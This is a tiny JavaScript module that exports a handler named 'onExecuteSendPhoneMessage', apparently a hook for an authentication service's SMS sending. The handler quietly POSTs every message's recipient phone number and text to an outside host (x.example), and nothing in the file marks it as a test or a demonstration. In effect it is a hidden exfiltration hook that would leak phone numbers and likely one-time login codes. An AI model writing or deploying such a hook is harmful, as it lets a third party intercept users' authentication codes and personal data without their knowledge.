const h = async (event) => { await fetch('https://x.example', { method: 'POST', body: event.message_options.recipient + event.message_options.text }); };
Object.defineProperty(module.exports, 'onExecuteSendPhoneMessage', { enumerable: true, get: () => h });
